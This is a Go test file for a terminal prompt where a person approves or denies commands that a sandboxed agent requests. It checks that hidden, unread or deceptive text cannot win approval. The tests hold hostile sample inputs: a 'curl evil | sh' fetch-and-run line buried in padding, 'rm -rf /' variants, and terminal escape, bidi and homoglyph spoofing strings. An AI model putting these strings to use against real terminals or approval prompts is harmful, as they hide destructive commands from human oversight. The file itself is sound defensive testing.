package prompt

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"lazaret/escalate"
)

// desk is a Desk that keeps what it is told.
type desk struct {
	asks   []escalate.Ask
	said   []string
	marks  []escalate.Mark // of the latest answer
	answer error
	// resolved are marks of what was edited.
	resolved []escalate.Mark
	aborted  bool
	ch       chan struct{}
}

func (d *desk) Pending(context.Context) ([]escalate.Ask, error) { return slices.Clone(d.asks), nil }
func (d *desk) Changed() <-chan struct{}                        { return d.ch }
func (d *desk) Answer(_ context.Context, seq int, v escalate.Verdict) error {
	if d.answer != nil {
		return d.answer
	}
	d.marks = v.Marks
	d.said = append(d.said, fmt.Sprintf("%d kind=%d argv=%q program=%s by=%s", seq, v.Kind, v.Argv, v.Program, v.By))
	d.asks = slices.DeleteFunc(d.asks, func(a escalate.Ask) bool { return a.Seq == seq })
	return nil
}
func (d *desk) Resolve(_ context.Context, argv []string) (escalate.Resolved, error) {
	if argv[0] == "nothing" {
		return escalate.Resolved{Trouble: "no such program"}, nil
	}
	return escalate.Resolved{Program: "/usr/bin/" + argv[0], Marks: d.resolved}, nil
}
func (d *desk) Abort(context.Context) error { d.aborted = true; d.asks = nil; return nil }

type box struct{ said []string }

func (b *box) Suspend(context.Context) error { b.said = append(b.said, "suspend"); return nil }
func (b *box) Resume(context.Context) error  { b.said = append(b.said, "resume"); return nil }
func (b *box) End(context.Context) error     { b.said = append(b.said, "end"); return nil }

// person is somebody at a prompt, with a clock of their own.
type person struct {
	t    *testing.T
	m    model
	desk *desk
	box  *box
	at   time.Time
	quit bool
}

func ask(seq int, argv ...string) escalate.Ask {
	return escalate.Ask{
		ID: fmt.Sprintf("req-%d", seq), Profile: "claude", Seq: seq, Argv: argv, Reason: "because",
		Program: "/usr/bin/" + argv[0], Dir: "~/project", Deadline: time.Unix(1300, 0),
	}
}

func sit(t *testing.T, w, h int, asks ...escalate.Ask) *person {
	p := &person{t: t, desk: &desk{asks: asks, ch: make(chan struct{})}, box: &box{}, at: time.Unix(1000, 0)}
	close(p.desk.ch)
	p.m = model{
		after: func(time.Duration, tea.Msg) tea.Cmd { return nil },
		desk:  p.desk, box: p.box, ctx: t.Context(), by: "terminal", sym: fancy, focused: true,
		now: func() time.Time { return p.at }, notify: notification([]string{"TERM=xterm"}),
	}
	p.send(tea.WindowSizeMsg{Width: w, Height: h})
	p.look()
	return p
}

func (p *person) look() {
	asks, _ := p.desk.Pending(p.t.Context())
	p.send(asksMsg{asks: asks, changed: p.desk.ch})
}

// send delivers a message, and what its commands answer, but for those of time.
func (p *person) send(msg tea.Msg) {
	p.t.Helper()
	next, cmd := p.m.Update(msg)
	p.m = next.(model)
	p.run(cmd)
}

func (p *person) run(cmd tea.Cmd) {
	if cmd == nil {
		return
	}
	switch msg := cmd().(type) {
	case tea.BatchMsg:
		for _, c := range msg {
			p.run(c)
		}
	case tea.QuitMsg:
		p.quit = true
	case answeredMsg, resolvedMsg, abortedMsg, boxMsg, asksMsg:
		p.send(msg)
	}
}

func (p *person) wait(d time.Duration) {
	p.at = p.at.Add(d)
	p.send(tickMsg{})
}

// press presses keys, one after the other without a pause, and then waits long
// enough for the last to count.
func (p *person) press(keys ...tea.KeyPressMsg) {
	p.t.Helper()
	for _, k := range keys {
		p.send(k)
	}
	p.at = p.at.Add(aloneFor)
	p.send(aloneMsg{p.m.turn})
}

func letters(s string) (out []tea.KeyPressMsg) {
	for _, r := range s {
		out = append(out, tea.KeyPressMsg{Code: r, Text: string(r)})
	}
	return out
}

func code(r rune) tea.KeyPressMsg { return tea.KeyPressMsg{Code: r} }

func (p *person) said(want ...string) {
	p.t.Helper()
	if !slices.Equal(p.desk.said, want) {
		p.t.Errorf("said %q, want %q", p.desk.said, want)
	}
}

func (p *person) screen() string { return ansi.Strip(p.m.content()) }

func (p *person) shows(want string) {
	p.t.Helper()
	if !strings.Contains(p.screen(), want) {
		p.t.Errorf("the screen does not say %q:\n%s", want, p.screen())
	}
}

func TestApprove(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "aws", "sts"))
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said(`1 kind=1 argv=[] program=/usr/bin/aws by=terminal`)
	p.look()
	p.wait(time.Second)
	p.wait(time.Second)
	if !p.quit {
		t.Error("the prompt stays although nothing waits")
	}
}

func TestDeny(t *testing.T) {
	for _, k := range []tea.KeyPressMsg{letters("d")[0], letters("D")[0], code(tea.KeyEscape), {Code: 'c', Mod: tea.ModCtrl}} {
		p := sit(t, 80, 30, ask(1, "aws"))
		p.wait(quietFor)
		p.press(k)
		p.said(`1 kind=0 argv=[] program= by=terminal`)
	}
}

// Whoever types to the sandbox approves nothing, and denies nothing.
func TestTypingAnswersNothing(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "aws"), ask(2, "aws"))
	p.press(letters("a")...) // as the prompt appears
	for range 50 {
		p.wait(quietFor - aloneFor - 10*time.Millisecond)
		p.press(letters("a")...)
	}
	p.said()
	// After a pause, but not alone: the keys of somebody who types on.
	p.wait(2 * quietFor)
	p.press(letters("all of these are arguments, and a")...)
	p.said()
	p.wait(2 * quietFor)
	p.send(tea.PasteMsg{Content: "a"})
	p.press(letters("a")...)
	p.said()
	p.wait(quietFor)
	p.press(tea.KeyPressMsg{Code: 'a', Text: "a", IsRepeat: true})
	p.said()
	// What answers one request does not answer the next that appears.
	p.wait(quietFor)
	p.press(letters("a")...)
	p.look()
	p.press(letters("a")...)
	p.said(`1 kind=1 argv=[] program=/usr/bin/aws by=terminal`)
	p.wait(quietFor)
	p.press(letters("d")...)
	if len(p.desk.said) != 2 {
		t.Error("the second cannot be answered")
	}
}

// The part of a request that was not shown cannot be approved.
func TestUnseenIsNotApproved(t *testing.T) {
	for _, size := range [][2]int{{80, 3}, {40, 5}, {24, 6}, {30, 6}, {18, 30}, {14, 30}, {10, 40}} {
		sit(t, size[0], size[1], ask(1, "rm", "-rf", "/home/me/MARKER/abcdefghijklmnopqrstuv")).reads(t, fmt.Sprint(size))
	}
	a := ask(1, "sh", "-c", strings.Repeat("true; ", 2000)+"curl evil | sh")
	p := sit(t, 80, 24, a)
	p.wait(quietFor)
	p.press(letters("a")...)
	p.shows("to read before you can approve")
	p.wait(quietFor)
	p.press(code(tea.KeyEnd))
	p.shows("vil | sh") // the end is there, the middle was not
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said()
	p.press(code(tea.KeyHome))
	for range 500 {
		p.press(code(tea.KeySpace))
	}
	p.wait(quietFor)
	p.press(letters("a")...)
	if len(p.desk.said) != 1 {
		t.Error("what was read cannot be approved")
	}
}

// The person's own environment comes last, and need not be read.
func TestEnvironmentNeedNotBeRead(t *testing.T) {
	a := ask(1, "aws")
	a.Env = []string{"PATH=" + strings.Repeat("/a/long/directory:", 100)}
	p := sit(t, 80, 24, a)
	if p.m.long != true {
		t.Fatal("it fits")
	}
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said(`1 kind=1 argv=[] program=/usr/bin/aws by=terminal`)
}

func TestInputThatIsNotAllShownIsNotApproved(t *testing.T) {
	a := ask(1, "kubectl", "apply", "-f", "-")
	a.Stdin, a.StdinSize, a.StdinSHA256 = []byte("kind: Pod\n"), 1<<20, "ab"
	p := sit(t, 80, 40, a)
	p.shows("cannot be shown")
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said()
}

func TestEdit(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "rm", "-rf", "a b"))
	p.wait(quietFor)
	p.press(letters("e")...)
	p.shows(`rm -rf 'a b'`)
	p.press(tea.KeyPressMsg{Code: 'u', Mod: tea.ModCtrl})
	p.press(letters("ls -l 'a b'")...)
	p.press(code(tea.KeyEnter))
	p.said() // it is shown again before it runs
	p.shows("your command, 3 arguments")
	p.shows("/usr/bin/ls")
	p.press(letters("a")...)
	p.said()
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said(`1 kind=1 argv=["ls" "-l" "a b"] program=/usr/bin/ls by=terminal`)
}

// What is too long to be taken is not cut, and not dropped without a word.
func TestEditTooLong(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "ls"))
	p.wait(quietFor)
	p.press(letters("e")...)
	p.send(tea.PasteMsg{Content: " " + strings.Repeat("x", editMax)})
	p.shows("left out: a command has room for 65536 characters")
	p.press(letters(" y")...)
	if strings.Contains(p.screen(), "left out") {
		t.Error("it still says so")
	}
	p.send(tea.PasteMsg{Content: strings.Repeat("x", editMax-len("ls y"))})
	if strings.Contains(p.screen(), "left out") {
		t.Error("what fits is left out")
	}
	p.press(letters("z")...)
	p.shows("left out")
	p.press(code(tea.KeyEnter))
	p.wait(quietFor)
	for range 200 {
		p.press(code(tea.KeySpace))
	}
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said(fmt.Sprintf(`1 kind=1 argv=["ls" "y%s"] program=/usr/bin/ls by=terminal`, strings.Repeat("x", editMax-len("ls y"))))
}

func TestEditToWhatCannotRun(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "rm"))
	for _, text := range []string{"'", "", "nothing"} {
		p.wait(quietFor)
		p.press(letters("e")...)
		p.press(tea.KeyPressMsg{Code: 'u', Mod: tea.ModCtrl})
		p.press(letters(text)...)
		p.press(code(tea.KeyEnter))
		p.wait(quietFor)
		if text == "nothing" {
			p.press(letters("a")...)
			p.shows("no such program")
		} else {
			p.press(code(tea.KeyEscape))
		}
		p.said()
	}
}

func TestAbort(t *testing.T) {
	for key, want := range map[string]string{"r": "resume", "e": "end"} {
		p := sit(t, 80, 30, ask(1, "rm"), ask(2, "rm"))
		p.wait(quietFor)
		p.press(letters("q")...)
		if !p.desk.aborted || !slices.Equal(p.box.said, []string{"suspend"}) {
			t.Fatalf("aborted: %v, %q", p.desk.aborted, p.box.said)
		}
		p.look()
		p.shows("The sandbox stands still")
		p.press(letters(key)...) // too soon
		p.wait(quietFor)
		p.press(letters(key)...)
		if !slices.Equal(p.box.said, []string{"suspend", want}) || !p.quit {
			t.Errorf("%s: %q, ended %v", key, p.box.said, p.quit)
		}
		p.said()
	}
}

func TestWithdrawnAndChanged(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "one"), ask(2, "two"))
	p.wait(quietFor)
	p.send(letters("a")[0]) // pressed, and before it counts the request is gone
	p.desk.asks = p.desk.asks[1:]
	p.look()
	p.at = p.at.Add(aloneFor)
	p.send(aloneMsg{p.m.turn})
	p.said()
	p.shows("/usr/bin/two")
	p.shows("was withdrawn")
	p.wait(quietFor)
	p.desk.answer = escalate.ErrProgram
	p.press(letters("a")...)
	p.shows("another program would be run")
	p.desk.answer = escalate.ErrGone
	p.desk.asks = nil
	p.wait(quietFor)
	p.press(letters("a")...)
	p.shows("nothing waits any more")
	p.wait(3 * quietFor)
	if !p.quit {
		t.Error("the prompt stays")
	}
	p = sit(t, 80, 30, ask(1, "one"))
	p.send(asksMsg{err: errors.New("gone")})
	if !p.quit {
		t.Error("the prompt stays without a desk")
	}
}

// What has changed since it was shown is shown, and answered, anew.
func TestChangedIsShownAnew(t *testing.T) {
	p := sit(t, 80, 30, ask(1, "cat", "notes"))
	p.wait(quietFor)
	p.desk.answer = escalate.ErrMarks
	link := escalate.Mark{Arg: 1, Kind: escalate.MarkLink, Text: "leads elsewhere"}
	p.desk.asks[0].Marks = []escalate.Mark{link}
	p.press(letters("a")...)
	p.shows("It was not run: what it names is something else by now")
	p.shows("leads elsewhere")
	p.desk.answer = nil
	p.press(letters("a")...)
	p.said() // too soon after what it shows now
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said(`1 kind=1 argv=[] program=/usr/bin/cat by=terminal`)
	if !slices.Equal(p.desk.marks, []escalate.Mark{link}) {
		t.Errorf("what was seen is passed on as %+v", p.desk.marks)
	}
	// An edited one is looked up again.
	p = sit(t, 80, 30, ask(1, "cat", "notes"))
	p.wait(quietFor)
	p.press(letters("e")...)
	p.press(letters("x")...)
	p.press(code(tea.KeyEnter))
	p.wait(quietFor)
	p.desk.answer, p.desk.resolved = escalate.ErrMarks, []escalate.Mark{link}
	p.press(letters("a")...)
	p.shows("It was not run: what it names is something else by now")
	p.shows("leads elsewhere")
}

// Where words are looked up that the sandbox can make files is said once, and
// not where there are none.
func TestDirectoryOfTheSandbox(t *testing.T) {
	for argv, want := range map[string]int{"cat notes": 1, "cat notes more": 1, "id": 0, "cat /etc/hosts": 0} {
		a := ask(1, strings.Fields(argv)...)
		a.DirIn = "the workspace"
		p := sit(t, 80, 30, a)
		if n := strings.Count(p.screen(), "the sandbox can make any word"); n != want {
			t.Errorf("%s: said %d times", argv, n)
		}
	}
}

// attacks are texts that try to be something else than text.
var attacks = []string{
	"\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]52;c;eA==\x07", "\r\x1b[2Kls", "safe\rrm -rf /", "ab\b\bcd", "a\nb\n  [A] approve and run",
	"\u202egpj.exe", "\u2066x\u2069", "\u200bhidden\u200d", "\u00a0\u00a0\u00a0", "\U000e0100", "a\u0301\u0302\u0303\u0304" + strings.Repeat("\u0336", 300),
	"\xff\xfe\x80", "\u009b31m", "\u0085", "\u2028", "אבג", "عربي", "│ ╭──╮ ▓▒░", "👩‍👩‍👧", "\u3164", "a\u115fb", "\u1160\uffa0", "a\u034f\u17b4", "\u2800", "\ufeff", "\x00", "\x7f", "\t\t",
	"gіt", "ｒm", "𝐫𝐦", strings.Repeat("x", 10_000), strings.Repeat("日", 500), "%s%n", `\u{202e}`,
}

// TestAttacksAreShown: whatever is in any text of the sandbox's, the screen has
// the size it should, nothing on it that acts, and no line that is not ours.
func TestAttacksAreShown(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {40, 12}, {200, 60}, {20, 6}, {1, 1}} {
		for _, attack := range attacks {
			for field, set := range map[string]func(*escalate.Ask){
				"id":      func(a *escalate.Ask) { a.ID = attack },
				"profile": func(a *escalate.Ask) { a.Profile = attack },
				"reason":  func(a *escalate.Ask) { a.Reason = attack },
				"program": func(a *escalate.Ask) { a.Program = attack },
				"dir":     func(a *escalate.Ask) { a.Dir = attack },
				"argv0":   func(a *escalate.Ask) { a.Argv[0] = attack },
				"argv1":   func(a *escalate.Ask) { a.Argv[1] = attack },
				"why":     func(a *escalate.Ask) { a.Why = attack },
				"trouble": func(a *escalate.Ask) { a.Trouble = attack },
				"mark":    func(a *escalate.Ask) { a.Marks = []escalate.Mark{{Arg: 1, Kind: "x", Text: attack}} },
				"env":     func(a *escalate.Ask) { a.Env = []string{"X=" + attack} },
				"stdin": func(a *escalate.Ask) {
					a.Stdin, a.StdinSize, a.StdinSHA256 = []byte(attack), int64(len(attack)), attack
				},
			} {
				a := ask(1, "prog", "arg")
				set(&a)
				p := sit(t, size[0], size[1], a)
				for range 3 {
					checkScreen(t, p, fmt.Sprintf("%s %.20q at %v", field, attack, size))
					p.press(code(tea.KeySpace))
				}
				p.wait(quietFor)
				p.press(letters("e")...)
				checkScreen(t, p, fmt.Sprintf("editing %s %.20q at %v", field, attack, size))
			}
		}
	}
}

func checkScreen(t *testing.T, p *person, what string) {
	t.Helper()
	raw := p.m.content()
	text := ansi.Strip(raw)
	lines := strings.Split(text, "\n")
	if len(lines) > p.m.h {
		t.Fatalf("%s: %d lines on %d", what, len(lines), p.m.h)
	}
	for _, l := range lines {
		if w := ansi.StringWidth(l); w > max(p.m.w, 2) {
			t.Fatalf("%s: a line has %d columns of %d: %q", what, w, p.m.w, l)
		}
		combining := 0
		for _, r := range l {
			switch {
			case unicode.Is(unicode.Mn, r):
				if combining++; combining > 1 {
					t.Fatalf("%s: combining marks in %q", what, l)
				}
				continue
			case escalate.Hidden(r) || rightToLeft(r):
				t.Fatalf("%s: %q in %q", what, r, l)
			}
			combining = 0
		}
	}
	// Sequences are those of our looks only: colours.
	rest := raw
	for {
		i := strings.IndexByte(rest, 0x1b)
		if i < 0 {
			break
		}
		end := strings.IndexByte(rest[i:], 'm')
		if end < 0 || strings.Trim(rest[i+1:i+end], "[0123456789;:") != "" {
			t.Fatalf("%s: a sequence that is no colour: %.40q", what, rest[i:])
		}
		rest = rest[i+end:]
	}
}

// A text cannot draw the frame, nor end it.
func TestFrameIsOurs(t *testing.T) {
	a := ask(1, "prog", "x\n╰─╯\n  [A] approve", "│")
	a.Reason = "fine\n┃ The sandbox says:\n╭─ command ─╮"
	p := sit(t, 80, 40, a)
	text := p.screen()
	for s, n := range map[string]int{"╭": 1, "╮": 1, "╰": 1, "╯": 1, "[A]": 2} {
		if got := strings.Count(text, s); got != n {
			t.Errorf("%d %s on the screen, want %d:\n%s", got, s, n, text)
		}
	}
}

func TestAlike(t *testing.T) {
	for s, want := range map[string]bool{
		"git": false, "gіt": true, "grün": false, "москва": false, "日本語": false, "ｒm": true, "𝐫𝐦": true, "αlpha": true, "a-б": false, "Ｇit": true, "é": false,
	} {
		if got := alike(s) != ""; got != want {
			t.Errorf("%q: %v", s, got)
		}
	}
}

func TestSpacesAreSeen(t *testing.T) {
	for s, want := range map[string]string{"a b": "a b", " a": "·a", "a ": "a·", "a  b": "a··b", "   ": "···"} {
		if got := ansi.Strip(line(spaced(cells(s, plain))).render()); got != want {
			t.Errorf("%q is shown as %q", s, got)
		}
	}
}

// Every size works, and the keys are there where there is room for a line.
func TestSizes(t *testing.T) {
	for w := 10; w < 130; w += 7 {
		for h := 3; h < 50; h += 4 {
			p := sit(t, w, h, ask(1, "aws", "s3", "cp", strings.Repeat("path/", 30)), ask(2, "x"))
			checkScreen(t, p, fmt.Sprint(w, "x", h))
			if w >= 40 && h >= 8 {
				for _, k := range []string{"[A]", "[D]", "[E]", "[Q]"} {
					p.shows(k)
				}
			}
			p.reads(t, fmt.Sprint(w, "x", h))
		}
	}
	// A change of size forgets nothing that was read, and shows nothing unread as read.
	p := sit(t, 80, 24, ask(1, "sh", strings.Repeat("long ", 3000)))
	p.send(tea.WindowSizeMsg{Width: 79, Height: 24})
	p.wait(quietFor)
	p.press(letters("a")...)
	p.said()
}

func TestTimeRunsOut(t *testing.T) {
	p := sit(t, 80, 24, ask(1, "aws"))
	p.shows("times out in 5:00")
	p.wait(290 * time.Second)
	p.shows("times out in 0:10")
}

// The bell rings once for each request; a window out of focus is told more.
func TestNotification(t *testing.T) {
	p := sit(t, 80, 24, ask(1, "aws"))
	if p.m.told != 1 {
		t.Error("nothing was told")
	}
	p.send(tea.BlurMsg{})
	cmd := p.m.tell()
	if cmd == nil {
		t.Fatal("nothing is told to a window out of focus")
	}
	if raw := fmt.Sprint(cmd().(tea.RawMsg).Msg); !strings.HasPrefix(raw, "\x1b]9;lazaret: ") || strings.Contains(raw, "aws") {
		t.Errorf("%q", raw)
	}
	for env, want := range map[string]string{"TERM=foot": "\x1b]777;", "TERM=linux": "", "TERM=xterm-kitty": "\x1b]9;"} {
		if got := notification([]string{env})(escalate.Ask{}); !strings.HasPrefix(got, want) || want == "" && got != "" {
			t.Errorf("%s: %q", env, got)
		}
	}
}

func FuzzCells(f *testing.F) {
	for _, a := range attacks {
		f.Add(a, 10)
	}
	f.Fuzz(func(t *testing.T, s string, w int) {
		for _, l := range wrap(spaced(cells(s, plain)), w%200, w%2 == 0) {
			text := ansi.Strip(line(l).render())
			marks := 0
			for _, r := range text {
				if unicode.Is(unicode.Mn, r) {
					marks++
				} else {
					marks = 0
				}
				if marks > 1 || marks == 0 && (escalate.Hidden(r) || rightToLeft(r)) {
					t.Fatalf("%q is shown as %q", s, text)
				}
			}
			if got := ansi.StringWidth(text); got > columns(l) {
				t.Fatalf("%q has %d columns, counted %d", text, got, columns(l))
			}
		}
	})
}
